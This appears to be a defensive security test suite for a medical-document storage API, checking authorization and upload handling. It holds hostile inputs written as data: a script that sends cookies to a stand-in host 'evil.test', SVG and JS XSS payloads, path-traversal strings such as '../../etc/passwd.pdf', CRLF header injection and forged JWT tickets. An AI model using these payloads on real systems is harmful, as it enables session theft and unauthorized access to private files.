import { randomUUID } from 'node:crypto';
import { acceptedTypes } from '@exora/contracts';
import { signToken } from '../../../packages/local-stack/test/sign-token.ts';
import { textPdf } from '../../setup/documents.ts';
import { attack, isFull } from '../harness/attack.ts';
import { type Answer, ask, askAsIs, readToken } from '../harness/requests.ts';
import {
  acceptedDocument,
  callUploads,
  createUpload,
  putBytes,
  type Uploader,
  uploadDocument,
  uploadRequest,
} from '../harness/uploading.ts';
import type { Sender, Target } from './target.ts';

const words = 'Diagnoses: Asthma of the owner alone';
const storage = '/storage/v1/object';

/** Files of somebody else, and one's own files where they must not be. */
export function attackFiles(target: () => Target): void {
  const uploader = (person: 'owner' | 'other'): Uploader => ({
    token: target().tokenOf(target().cast[person]),
    profileId: target().cast[person].profileId,
  });
  // Equal bytes would be one document.
  const pdf = () => textPdf([[words, randomUUID()]]);
  const send = (sender: Pick<Sender, 'token'>, path: string, method: string, body?: unknown): Promise<Answer> =>
    askAsIs(target().api.url, path, {
      method,
      headers: {
        apikey: target().api.publishableKey,
        ...(sender.token === null ? {} : { authorization: `Bearer ${sender.token}` }),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
  const gave = (answer: Answer) => answer.status < 300 && /[?&]token=/.test(answer.text);

  attack(
    'files',
    'an address for somebody else’s file, by every way to write its path',
    async (tries) => {
      const { api } = target();
      const owner = uploader('owner');
      const file = await acceptedDocument(api, owner, 'letter.pdf', pdf());
      const own = target().cast.other.profileId;
      const [profile = '', id = ''] = file.path.split('/');
      const dots = ['..', '%2e%2e', '%2E.', '.%2e', '..%2f', '..\\', '%252e%252e', '....//', '..;'];
      const paths = [
        file.path,
        `/${file.path}`,
        file.path.replaceAll('/', '//'),
        file.path.replaceAll('/', '%2f'),
        file.path.replaceAll('/', '%252f'),
        file.path.replaceAll('/', '\\'),
        file.path.toUpperCase(),
        `${file.path}%00`,
        `${file.path}/`,
        `${file.path}?x`,
        `./${file.path}`,
        `${profile}/./${id}/original`,
        ...dots.map((climb) => `${own}/${climb}/${file.path}`),
        ...dots.map((climb) => `${own}/${id}/${climb}/${climb}/${profile}/${id}/original`),
        `../documents/${file.path}`,
        `${own}*`,
        `%`,
      ];
      const buckets = ['documents', 'Documents', 'documents%2f..%2fdocuments', '.', '..', 'other', 'documents%00', '*'];
      const { attackers } = target();
      for (const sender of isFull ? attackers : attackers.filter((_, at) => at % 2 === 0)) {
        for (const [at, path] of paths.entries()) {
          for (const [deed, method] of [
            ['sign', 'POST'],
            ['upload/sign', 'POST'],
          ] as const) {
            const answer = await send(sender, `${storage}/${deed}/documents/${path}`, method, { expiresIn: 60 });
            const signed = gave(answer) ? await open(target(), answer) : null;
            tries.held(`${sender.name} was given bytes by ${deed}`, !signed?.includes('%PDF'));
            const isOwn = readTicket(answer)?.startsWith(`${own}/`) ?? false;
            tries.held(`${sender.name} was given an address to ${deed} (${answer.status})`, !gave(answer) || isOwn);
          }
          if (!isFull && at > 3) continue;
          for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE']) {
            for (const deed of ['', '/authenticated', '/public', '/info', '/list', '/sign']) {
              if (deed === '/sign' && method === 'POST') continue;
              const answer = await send(sender, `${storage}${deed}/documents/${path}`, method);
              tries.held(`${sender.name}: ${method} ${deed} (${answer.status})`, answer.status >= 400);
            }
          }
        }
        for (const bucket of buckets.slice(1)) {
          const answer = await send(sender, `${storage}/sign/${bucket}/${file.path}`, 'POST', { expiresIn: 60 });
          tries.held(`${sender.name} by bucket ${bucket}`, !gave(answer));
        }
      }
      const mine = await send(owner, `${storage}/sign/documents/${file.path}`, 'POST', { expiresIn: 60 });
      tries.control(`the owner gets an address (${mine.status})`, gave(mine));
      tries.control('and the bytes by it', (await open(target(), mine)).startsWith('%PDF'));
    },
    600_000,
  );

  attack('files', 'many at once, listing, moving, copying, removing', async (tries) => {
    const { api, sql } = target();
    const [owner, other] = [uploader('owner'), uploader('other')];
    const file = await acceptedDocument(api, owner, 'letter.pdf', pdf());
    const mine = await acceptedDocument(api, other, 'letter.pdf', pdf());
    const paths = [mine.path, file.path];
    const many = await send(other, `${storage}/sign/documents`, 'POST', { expiresIn: 60, paths });
    const listed = many.status < 300 ? (JSON.parse(many.text) as { path: string; signedURL: string | null }[]) : [];
    const foreign = listed.find(({ path }) => path === file.path);
    tries.held(`somebody else’s among one’s own (${many.status})`, !foreign?.signedURL && !many.text.includes(file.id));
    const alone = await send(other, `${storage}/sign/documents/${mine.path}`, 'POST', { expiresIn: 60 });
    tries.control(`one’s own alone (${alone.status})`, gave(alone));
    const free = `${other.profileId}/${randomUUID()}/original`;
    const moves: [string, string, unknown][] = [
      ['move', 'POST', { bucketId: 'documents', sourceKey: file.path, destinationKey: free }],
      ['move', 'POST', { bucketId: 'documents', sourceKey: mine.path, destinationKey: file.path }],
      ['copy', 'POST', { bucketId: 'documents', sourceKey: file.path, destinationKey: free }],
      ['copy', 'POST', { bucketId: 'documents', sourceKey: mine.path, destinationKey: file.path }],
      ['list/documents', 'POST', { prefix: owner.profileId, limit: 1000 }],
      ['list/documents', 'POST', { prefix: '', limit: 1000 }],
      ['list-v2/documents', 'POST', { prefix: '' }],
    ];
    for (const [deed, method, body] of moves) {
      for (const who of [other, owner]) {
        const answer = await send(who, `${storage}/${deed}`, method, body);
        tries.held(`${deed} (${answer.status})`, answer.status >= 400);
      }
    }
    for (const [method, path] of [
      ['GET', 'bucket'],
      ['POST', 'bucket'],
      ['DELETE', 'bucket/documents'],
      ['POST', 'bucket/documents/empty'],
      ['PUT', 'bucket/documents'],
      ['POST', 'upload/resumable'],
      ['GET', 's3/documents'],
      ['GET', 'render/image/authenticated/documents/x'],
    ] as const) {
      const answer = await send(other, `/storage/v1/${path}`, method, method === 'GET' ? undefined : { public: true });
      tries.held(`${method} ${path} (${answer.status})`, answer.status >= 400);
    }
    for (const who of [other, ...target().attackers]) {
      await send(who, `${storage}/documents`, 'DELETE', { prefixes: [file.path, `${owner.profileId}/`, '%'] });
    }
    // What is submitted is removed by erasing the record alone, not even by the owner.
    await send(owner, `${storage}/documents`, 'DELETE', { prefixes: [file.path] });
    const rows = await sql`select 1 from storage.objects where name = ${file.path}`;
    tries.held('a submitted file was removed', rows.length === 1);
    const signed = await send(owner, `${storage}/sign/documents/${file.path}`, 'POST', { expiresIn: 60 });
    tries.held('its bytes are gone or others', (await open(target(), signed)).startsWith('%PDF'));
    const given = await createUpload(api, owner, uploadRequest(owner, 'given-up.pdf', 10));
    await putBytes(given.url, Buffer.from('0123456789'));
    await send(owner, `${storage}/documents`, 'DELETE', { prefixes: [given.path] });
    const left = await sql`select 1 from storage.objects where name = ${given.path}`;
    tries.control('the owner removes an upload that was given up', left.length === 0);
  });

  attack('files', 'addresses that were changed, borrowed, stretched or used again', async (tries) => {
    const { api, sql, cast } = target();
    const [owner, other] = [uploader('owner'), uploader('other')];
    const file = await acceptedDocument(api, owner, 'letter.pdf', pdf());
    const next = await createUpload(api, owner, uploadRequest(owner, 'next.pdf', pdf().length));
    const foreign = await createUpload(api, other, uploadRequest(other, 'other.pdf', pdf().length));
    const ticket = (url: string) => new URL(url).searchParams.get('token') ?? '';
    const at = (deed: string, path: string, token: string) =>
      `${api.url}${storage}/${deed}/documents/${path}?token=${token}`;
    const upload = (path: string, token: string) =>
      putBytes(at('upload/sign', path, token), Buffer.from('forged bytes'));
    const down = await send(owner, `${storage}/sign/documents/${file.path}`, 'POST', { expiresIn: 60 });
    const reading = ticket(`http://x${(JSON.parse(down.text) as { signedURL: string }).signedURL}`);
    const [header = '', , signature = ''] = reading.split('.');
    const claims = readToken(reading).claims;
    const changed = (change: object) =>
      `${header}.${Buffer.from(JSON.stringify({ ...claims, ...change })).toString('base64url')}.${signature}`;
    const get = (path: string, token: string) => ask(at('sign', path, token));
    const forgeries: [string, string, string][] = [
      ['another object', foreign.path, reading],
      ['another object in a changed ticket', foreign.path, changed({ sub: foreign.path })],
      ['another bucket', file.path, changed({ bucket: 'other' })],
      ['a longer life', file.path, changed({ exp: 9999999999 })],
      ['an upload’s ticket', next.path, ticket(next.url)],
      ['a sign-in', file.path, owner.token],
      ['no ticket', file.path, ''],
      ['a ticket without signature', file.path, `${reading.split('.').slice(0, 2).join('.')}.`],
      ['a ticket signed by somebody else', file.path, signToken(claims, 'somebody else')],
      ['two tickets', file.path, `x&token=${reading}`],
      ['a path beside it', `${file.path}/../original`, `${reading}x`],
    ];
    for (const [what, path, token] of forgeries) {
      const answer = await get(path, token);
      tries.held(`reading by ${what} (${answer.status})`, answer.status >= 400);
    }
    for (const [what, path, token] of [
      ['the ticket of another object', next.path, ticket(foreign.url)],
      ['a ticket for reading', file.path, reading],
      ['a sign-in', next.path, owner.token],
      ['its own ticket after it was submitted', file.path, ticket(file.uploadUrl)],
      ['a ticket for a page’s picture', file.path.replace('original', 'pages/x/1.webp'), ticket(next.url)],
    ] as const) {
      const answer = await upload(path, token);
      tries.held(`writing by ${what} (${answer.status})`, answer.status >= 400);
    }
    const after = await get(file.path, reading);
    tries.control(`the true ticket reads (${after.status})`, after.text.startsWith('%PDF'));
    tries.held('a submitted document was replaced', after.text.startsWith('%PDF'));
    const stretched = await send(owner, `${storage}/sign/documents/${file.path}`, 'POST', { expiresIn: 10 ** 9 });
    const long = readToken(ticket(`http://x${(JSON.parse(stretched.text) as { signedURL: string }).signedURL}`)).claims;
    const old = signToken({ ...long, iat: Math.floor(Date.now() / 1000) - 61 }, cast.db.secrets.jwt_secret);
    tries.held('an address of years was good for more than a minute', (await get(file.path, old)).status >= 400);
    const bytes = pdf();
    tries.control('the true ticket writes', (await putBytes(next.url, bytes)).status === 200);
    const written = await sql`select 1 from storage.objects where name = ${next.path}`;
    tries.control('and there is the object', written.length === 1);
    for (const deed of ['pages/x/1.webp', 'original2', '../x/original', 'original/x']) {
      const path = file.path.replace('original', deed);
      const answer = await send(owner, `${storage}/upload/sign/documents/${path}`, 'POST', {});
      tries.held(`the owner was given an address to write ${deed} (${answer.status})`, !gave(answer));
    }
  });

  attack('files', 'an original that is a page or a program is never shown as one', async (tries) => {
    const { api } = target();
    const owner = uploader('owner');
    const script = '<html><body><script>fetch("//evil.test/"+document.cookie)</script>Asthma</body></html>';
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Asthma</text></svg>`;
    const files: [string, string, string][] = [
      ['page.html', 'text/html', script],
      ['page.xhtml', 'application/xhtml+xml', script],
      ['picture.svg', 'image/svg+xml', svg],
      ['letter.pdf', 'text/html', `%PDF-1.4\n${script}`],
      ['letter.txt', 'text/html', `${script}`],
      ['program.js', 'text/javascript', 'alert(1)'],
      ['worker.txt', 'text/javascript', 'self.onfetch = () => 1'],
    ];
    for (const [name, type, content] of files) {
      const request = uploadRequest(owner, name, content.length);
      const created = await createUploadOrNull(target(), owner, request);
      // Refused by its name: nothing is kept at all.
      if (created === null) {
        tries.held(name, true);
        continue;
      }
      await putBytes(created.url, Buffer.from(content), type);
      const signed = await send(owner, `${storage}/sign/documents/${created.path}`, 'POST', { expiresIn: 60 });
      const url = `${api.url}/storage/v1${(JSON.parse(signed.text) as { signedURL: string }).signedURL}`;
      for (const query of [
        '',
        '&download',
        '&download=x.html',
        '&download=a%0d%0aset-cookie:%20a=b',
        '&response-content-type=text/html',
      ]) {
        const answer = await ask(`${url}${query}`);
        const policy = answer.headers.get('content-security-policy') ?? '';
        tries.held(
          `${name}${query} may run scripts`,
          policy.includes('sandbox') && policy.includes("default-src 'none'"),
        );
        tries.held(`${name}${query} may be guessed at`, answer.headers.get('x-content-type-options') === 'nosniff');
        tries.held(`${name}${query} may be kept`, /no-store/.test(answer.headers.get('cache-control') ?? ''));
        tries.held(`${name}${query} sets a cookie`, answer.headers.get('set-cookie') === null);
        tries.held(`${name}${query} may be framed`, policy.includes("frame-ancestors 'none'"));
      }
      const plain = await ask(url);
      tries.control(`the owner gets ${name} (${plain.status})`, plain.text === content);
    }
  });

  attack('files', 'names and sizes that are not what they say', async (tries) => {
    const { api, cast, sql } = target();
    const owner = uploader('owner');
    const hostile = [
      '../../etc/passwd.pdf',
      '..\\..\\boot.pdf',
      '/etc/passwd.pdf',
      'C:\\a.pdf',
      'a\u0000.pdf',
      'a\r\nset-cookie: x=1.pdf',
      'a\u001b[31mred.pdf',
      'a\u202efdp.exe.pdf',
      `${'a'.repeat(300)}.pdf`,
      '.pdf\u2028',
      'letter.exe',
      'letter.pdf.exe',
      'letter',
      '',
      '.',
      '..',
    ];
    for (const name of hostile) {
      const answer = await callUploads(api, owner.token, { action: 'create', ...uploadRequest(owner, name, 100) });
      tries.held(
        `the name ${JSON.stringify(name).slice(0, 40)} was taken (${answer.status})`,
        answer.status >= 400 && answer.status < 500,
      );
    }
    for (const size of [-1, 0, 0.5, 1e308, '100', null, 52_428_801, Number.MAX_SAFE_INTEGER]) {
      const answer = await callUploads(api, owner.token, {
        action: 'create',
        ...uploadRequest(owner, 'a.pdf', 1),
        size_bytes: size,
      });
      tries.held(`the size ${size} was taken (${answer.status})`, answer.status >= 400 && answer.status < 500);
    }
    const bytes = pdf();
    const foreign: Record<string, unknown> = {
      shell_file_id: cast.other.processed.id,
      storage_path: cast.other.processed.path,
      path: cast.other.processed.path,
      user_id: cast.other.userId,
      status: 'processed',
      job_id: randomUUID(),
      mime_type: 'text/html',
    };
    const request = { ...uploadRequest(owner, 'letter.pdf', bytes.length), ...foreign };
    const created = await callUploads(api, owner.token, { action: 'create', ...request });
    const { upload, shell_file_id: id } = JSON.parse(created.text) as {
      upload: { url: string; path: string };
      shell_file_id: string;
    };
    await putBytes(upload.url, bytes, 'text/html');
    const confirmed = await callUploads(api, owner.token, { action: 'confirm', ...request });
    tries.control(`extra fields are passed over (${confirmed.status})`, confirmed.status === 200);
    const [row] = await sql<{ row: Record<string, unknown> }[]>`
      select to_jsonb(f) as row from public.shell_files as f where f.id = ${id}`;
    tries.held(
      'an extra field was kept',
      row?.row.status === 'queued' &&
        row.row.mime_type === 'application/pdf' &&
        id !== cast.other.processed.id &&
        String(row.row.storage_path).startsWith(owner.profileId),
    );
    const odd = "Ärztebrief O'Neil; drop table (1) 😀.pdf";
    const good = await uploadDocument(api, owner, odd, bytes);
    tries.control(`an honest name with every sign is taken (${good.confirmed.status})`, good.confirmed.status === 200);
    tries.control('types are known', Object.keys(acceptedTypes).length > 3);
  });
}

async function createUploadOrNull({ api }: Target, who: Uploader, request: ReturnType<typeof uploadRequest>) {
  const answer = await callUploads(api, who.token, { action: 'create', ...request });
  if (answer.status >= 400) return null;
  return (JSON.parse(answer.text) as { upload: { url: string; path: string } }).upload;
}

/** What lies at a signed address that was answered. */
async function open({ api }: Target, answer: Answer): Promise<string> {
  const { signedURL, url } = JSON.parse(answer.text) as { signedURL?: string | null; url?: string | null };
  const place = signedURL ?? url;
  return place ? (await ask(`${api.url}/storage/v1${place}`)).text : '';
}

/** The object that a signed address is for, or null. */
function readTicket(answer: Answer): string | null {
  const token = /[?&]token=([\w.-]+)/.exec(answer.text)?.[1];
  return token === undefined ? null : String(readToken(token).claims.sub);
}
